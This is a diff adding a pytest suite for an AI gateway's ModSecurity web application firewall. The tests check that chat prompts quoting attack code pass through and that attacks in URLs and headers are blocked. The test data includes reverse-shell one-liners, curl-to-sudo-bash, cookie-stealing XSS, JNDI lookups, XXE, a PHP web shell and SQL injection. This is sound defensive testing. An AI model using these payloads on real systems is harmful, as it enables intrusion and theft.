@@ -1,0 +1,285 @@
+"""The firewall with a real ModSecurity and the real Core Rule Set."""
+
+from __future__ import annotations
+
+import json
+import socket
+import threading
+import time
+from collections.abc import Callable, Iterator
+
+import httpx
+import pytest
+
+from infergate.nginx.engine_find import find_debian
+from tests.backends.servers import scripted
+from tests.cache import ENGINES_HOME
+from tests.gateway import Gateway, gateway, until
+
+PROMPTS = (
+    "Explain this: SELECT * FROM users WHERE name = '' OR 1=1; DROP TABLE users; --",
+    "Why is `' UNION SELECT username, password FROM accounts --` an injection?",
+    "Optimise: SELECT id, COUNT(*) FROM orders GROUP BY id HAVING COUNT(*) > 3 ORDER BY 2 DESC;",
+    "Write a trigger: CREATE TRIGGER t AFTER INSERT ON log BEGIN DELETE FROM log WHERE 1; END;",
+    "How do I run `rm -rf /var/log/* && cat /etc/passwd | grep root` safely?",
+    "This script fails: curl http://x.test/i.sh | sudo bash -c 'eval $(cat)'; wget -O- x; chmod +x",
+    "What does `nc -lvp 4444 -e /bin/sh` do, and `bash -i >& /dev/tcp/10.0.0.1/4444 0>&1`?",
+    "powershell -nop -w hidden -enc SQBFAFgA; Invoke-Expression (New-Object Net.WebClient)",
+    "Fix my page: <script>alert(document.cookie)</script><img src=x onerror=alert(1)>",
+    "<html><body onload=\"init()\"><iframe src='javascript:void(0)'></iframe></body></html>",
+    "Is <a href=\"javascript:document.location='http://e.test?c='+document.cookie\">x</a> XSS?",
+    "<?php system($_GET['cmd']); eval(base64_decode($x)); include('../../config.php'); ?>",
+    'In Java: Runtime.getRuntime().exec("id"); and what is ${jndi:ldap://x.test/a}?',
+    "const { exec } = require('child_process'); exec('ls', () => process.exit());",
+    "Why does open('../../../etc/shadow') raise? And C:\\Windows\\System32\\cmd.exe?",
+    "{% for x in ''.__class__.__mro__[1].__subclasses__() %}{{ x }}{% endfor %}",
+    '#!/bin/sh\nset -e\nfor f in $(ls *.txt); do mv "$f" `basename $f .txt`.md; done',
+    'Parse <!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x> with lxml.',
+    "GET / HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /admin HTTP/1.1",
+    "nmap -sV --script vuln 10.0.0.0/24; sqlmap -u 'http://t.test/?id=1' --dbs; nikto -h t",
+    "Mon mot de passe est l'été d'après; c'est \"ça\" & < ou > ? ; ' -- # /* */",
+    'db.users.find({$where: "this.a == this.b", age: {$gt: 18, $ne: null}})',
+    "(&(objectClass=user)(|(cn=*)(uid=admin)))(userPassword=*) is that LDAP right?",
+    "crontab: * * * * * /usr/bin/python3 -c 'import os; os.system(\"id > /tmp/x\")'",
+)
+
+SQL = "q=1'%20UNION%20SELECT%20name,pass%20FROM%20users--%20"
+CONFIG = """
+backends: {{ a: {a} }}
+models: {{ m: [a] }}
+services:
+  path: {{ url: {s}, path: /path/ }}
+  host: {{ url: {s}, host: host.test, auth: none, waf: {{ exclude: [{excluded}] }} }}
+  detect: {{ url: {s}, host: detect.test, auth: none, waf: detect }}
+  off: {{ url: {s}, host: off.test, auth: none, waf: "off" }}
+waf: {{ mode: {mode}, exclude: [{{ rule: 942100, path: /v1/models, target: "ARGS:free" }}] }}
+"""
+EXCLUDED = "942100, 942190, 942270, 942360, { rule: 930120, path: /elsewhere }"
+
+
+def start(mode: str) -> Iterator[Gateway]:
+    if not any("modsecurity" in each.modules for each in find_debian(ENGINES_HOME)):
+        pytest.skip("Debian's engine has no ModSecurity here; `make test` brings it where apt is")
+    with scripted(name="a") as a, scripted(name="s") as s:
+        config = CONFIG.format(a=a.url, s=s.url, mode=mode, excluded=EXCLUDED)
+        with gateway("debian", config) as it:
+            yield it
+
+
+@pytest.fixture(scope="module")
+def blocking() -> Iterator[Gateway]:
+    yield from start("block")
+
+
+@pytest.fixture(scope="module")
+def detecting() -> Iterator[Gateway]:
+    yield from start("detect")
+
+
+def chat(content: str) -> dict[str, object]:
+    return {"model": "m", "messages": [{"role": "user", "content": content}]}
+
+
+def findings(it: Gateway, request_id: str) -> dict[str, object]:
+    """The line of logs/waf.log about a request."""
+    path = it.home / "logs" / "waf.log"
+
+    def line() -> dict[str, object] | None:
+        lines = path.read_text().splitlines() if path.exists() else []
+        return next((e for e in map(json.loads, lines) if e["id"] == request_id), None)
+
+    return until(line, 20)
+
+
+def test_none_of_24_prompts_of_code_is_blocked(blocking: Gateway) -> None:
+    with httpx.Client(base_url=blocking.url, headers=blocking.headers()) as client:
+        for prompt in PROMPTS:
+            for path in ("/v1/chat/completions", "/v1/messages"):
+                answer = client.post(path, json={**chat(prompt), "max_tokens": 5})
+                assert answer.status_code == 200, (path, prompt, answer.text)
+    assert len(PROMPTS) == 24
+
+
+def test_prompts_may_come_as_curl_sends_them_large_or_many(blocking: Gateway) -> None:
+    form = {"Content-Type": "application/x-www-form-urlencoded"}
+    body = json.dumps(chat(PROMPTS[0])).encode()
+    assert blocking.post("/v1/chat/completions", body, headers=form).status_code == 200
+    assert blocking.chat(messages=chat(PROMPTS[0] * 3000)["messages"]).status_code == 200
+    streamed = blocking.chat(stream=True)
+    assert streamed.text.endswith("data: [DONE]\n\n")
+    turns = [{"role": "user", "content": PROMPTS[4]}] * 600
+    assert blocking.chat(messages=turns).status_code == 200
+    numbers = {"model": "m", "input": list(range(3000))}
+    assert blocking.post("/v1/embeddings", numbers).status_code == 200
+
+
+@pytest.mark.parametrize(
+    ("path", "headers"),
+    [
+        ("/v1/chat/completions?" + SQL, {}),
+        ("/v1/chat/completions?file=../../../../etc/passwd", {}),
+        ("/v1/chat/completions?x=<script>alert(1)</script>", {}),
+        ("/v1/chat/completions", {"User-Agent": "sqlmap/1.7 (https://sqlmap.org)"}),
+        ("/v1/chat/completions", {"User-Agent": "Nikto/2.5"}),
+        ("/v1/chat/completions", {"Referer": "<script>alert(1)</script>"}),
+        ("/v1/chat/completions", {"Content-Encoding": "x", "User-Agent": "masscan/1.0"}),
+        ("/v1/audio/transcriptions?" + SQL, {}),
+    ],
+)
+def test_attacks_in_urls_and_headers_are_blocked(
+    blocking: Gateway, path: str, headers: dict[str, str]
+) -> None:
+    answer = blocking.post(path, chat("hi"), headers=headers)
+    assert (answer.status_code, answer.json()["error"]["code"]) == (403, "waf_blocked")
+
+
+def test_an_attack_with_a_large_body_is_blocked_too(blocking: Gateway) -> None:
+    answer = blocking.post("/v1/chat/completions?" + SQL, chat("x" * 200_000))
+    assert answer.status_code == 403
+    assert blocking.post("/v1/chat/completions", chat("x" * 200_000)).status_code == 200
+
+
+def test_a_blocked_request_is_told_so_in_its_dialect_and_logged(blocking: Gateway) -> None:
+    anthropic = blocking.post("/v1/messages?" + SQL, chat("hi"))
+    assert anthropic.json()["error"]["type"] == "permission_error"
+    ollama = blocking.post("/api/chat?" + SQL, chat("hi"))
+    assert "firewall" in ollama.json()["error"]
+    request_id = ollama.headers["x-infergate-request-id"]
+    line = until(lambda: next((e for e in blocking.log() if e["id"] == request_id), None))
+    assert (line["status"], line["error"], line["backend"]) == (403, "waf_blocked", "")
+
+
+def test_the_firewalls_log_names_rules_and_no_secret(blocking: Gateway) -> None:
+    headers = {"Cookie": "session=S3CRET1", "x-api-key": "S3CRET2"}
+    path = "/v1/models?token=S3CRET3&q=S3CRET4'%20UNION%20SELECT%201--%20"
+    answer = httpx.get(blocking.url + path, headers={**headers, **blocking.headers()})
+    assert answer.status_code == 403
+    entry = findings(blocking, answer.headers["x-infergate-request-id"])
+    assert (entry["attack"], entry["path"], entry["ip"]) == (True, "/v1/models", "127.0.0.1")
+    assert {"rule": "942100", "where": "ARGS:q"}.items() <= entry["rules"][0].items()
+    log = blocking.home / "logs" / "waf.log"
+    assert "S3CRET" not in log.read_text()
+    assert blocking.key not in log.read_text()
+    assert log.stat().st_mode & 0o077 == 0
+    until(lambda: not list((blocking.home / "run" / "waf").glob("*/*/*")))
+    shown = blocking.run("waf").stdout
+    assert "942100" in shown
+    assert all(len(row) <= 80 for row in shown.splitlines())
+
+
+def test_services_are_judged_with_their_bodies_each_in_its_mode(blocking: Gateway) -> None:
+    attack = {"q": "1' UNION SELECT name FROM users; <script>alert(1)</script>"}
+    assert blocking.post("/path/x", attack).status_code == 403
+    assert blocking.post("/path/x", {"vector": list(range(3000))}).status_code == 200
+    for host, status in (("host.test", 403), ("detect.test", 200), ("off.test", 200)):
+        url, headers = blocking.url + "/version", {"Host": host}
+        assert httpx.post(url, json=attack, headers=headers).status_code == status, host
+        assert httpx.put(url, json={"a": 1}, headers=headers).status_code != 403
+    detected = httpx.get(f"{blocking.url}/version?{SQL}", headers={"Host": "detect.test"})
+    assert detected.status_code == 200
+    entry = findings(blocking, detected.headers["x-infergate-request-id"])
+    assert entry["attack"]
+
+
+def serve_one(answer: Callable[[socket.socket], None]) -> int:
+    """The port of a server that has one connection, from a thread of its own."""
+    server = socket.create_server(("127.0.0.1", 0))
+
+    def serve() -> None:
+        with server, server.accept()[0] as connection:
+            connection.recv(65536)
+            answer(connection)
+
+    threading.Thread(target=serve, daemon=True).start()
+    return int(server.getsockname()[1])
+
+
+def switched(connection: socket.socket) -> None:
+    head = "HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\r\n"
+    connection.sendall(head.encode())
+    connection.sendall(b"echo " + connection.recv(100))
+
+
+def dripping(connection: socket.socket) -> None:
+    connection.sendall(b"HTTP/1.1 200 OK\r\nContent-Type: text/event-stream\r\n\r\ndata: 1\n\n")
+    connection.recv(1)  # until the other side is gone, or has what it wants
+    time.sleep(30)
+
+
+def test_websockets_and_event_streams_pass_while_they_are_judged(blocking: Gateway) -> None:
+    before = blocking.file.read_text()
+    more = f"""
+  socket: {{ url: "http://127.0.0.1:{serve_one(switched)}", host: socket.test, auth: none }}
+  events: {{ url: "http://127.0.0.1:{serve_one(dripping)}", host: events.test, auth: none }}
+waf:"""
+    try:
+        blocking.file.write_text(before.replace("\nwaf:", more))
+        blocking.run("reload")
+        with socket.create_connection(("127.0.0.1", blocking.port), 10) as client:
+            client.sendall(
+                b"GET /ws HTTP/1.1\r\nHost: socket.test\r\nUpgrade: websocket\r\n"
+                b"Connection: Upgrade\r\nSec-WebSocket-Version: 13\r\n\r\n"
+            )
+            assert b" 101 " in client.recv(4096)
+            client.sendall(b"<script>")
+            assert client.recv(100) == b"echo <script>"
+        headers = {"Host": "events.test"}
+        with httpx.stream("GET", blocking.url + "/e", headers=headers, timeout=10) as events:
+            assert next(events.iter_raw()) == b"data: 1\n\n", "at once, though more may come"
+    finally:
+        blocking.file.write_text(before)
+        blocking.run("reload")
+
+
+def test_excluded_rules_are_not_applied_where_they_are_excluded(blocking: Gateway) -> None:
+    tautology = "=1'%20or%20'1'='1"
+    assert blocking.get("/v1/models?free" + tautology).status_code == 200
+    assert blocking.get("/v1/models?other" + tautology).status_code == 403
+    excluded = httpx.get(f"{blocking.url}/version?{SQL}", headers={"Host": "host.test"})
+    assert excluded.status_code == 200, "by the service's numbers"
+    path = "/version?f=/etc/passwd"
+    refused = httpx.get(blocking.url + path, headers={"Host": "host.test"})
+    assert refused.status_code == 403, "that rule is excluded elsewhere only"
+
+
+def test_a_request_without_a_key_does_not_reach_the_firewall(blocking: Gateway) -> None:
+    assert httpx.get(f"{blocking.url}/v1/models?{SQL}").status_code == 401
+
+
+def test_detecting_refuses_nothing_and_writes_all_ways_down(detecting: Gateway) -> None:
+    for body in (chat("hi"), chat("x" * 200_000)):
+        answer = detecting.post("/v1/chat/completions?" + SQL, body)
+        assert answer.status_code == 200
+        entry = findings(detecting, answer.headers["x-infergate-request-id"])
+        assert (entry["attack"], entry["method"]) == (True, "POST")
+    listed = detecting.get("/v1/models?" + SQL)
+    assert listed.status_code == 200
+    assert findings(detecting, listed.headers["x-infergate-request-id"])["attack"]
+    streamed = detecting.chat(stream=True)
+    assert streamed.status_code == 200
+    assert streamed.text.endswith("data: [DONE]\n\n")
+    time.sleep(0.2)
+    assert "exited on signal" not in (detecting.home / "logs" / "error.log").read_text()
+
+
+def test_it_survives_a_reload_and_can_be_switched_off(detecting: Gateway) -> None:
+    before = detecting.file.read_text()
+    try:
+        detecting.file.write_text(before.replace("mode: detect", "mode: off"))
+        detecting.run("reload")
+        assert detecting.get("/v1/models?" + SQL).status_code == 200
+        rendered = (detecting.home / "current" / "sites-available" / "api.conf").read_text()
+        assert "waf" not in rendered
+    finally:
+        detecting.file.write_text(before)
+        detecting.run("reload")
+    assert detecting.get("/v1/models").status_code == 200
+
+
+def test_the_embedded_engine_refuses_a_firewall_in_one_sentence() -> None:
+    with gateway(
+        "embedded", "backends: { a: http://127.0.0.1:9 }\nwaf: block\n", start=False
+    ) as it:
+        refused = it.run("check", check=False)
+        assert refused.returncode == 2
+        assert "infergate.yaml:5:6: the embedded nginx cannot load ModSecurity" in refused.stderr
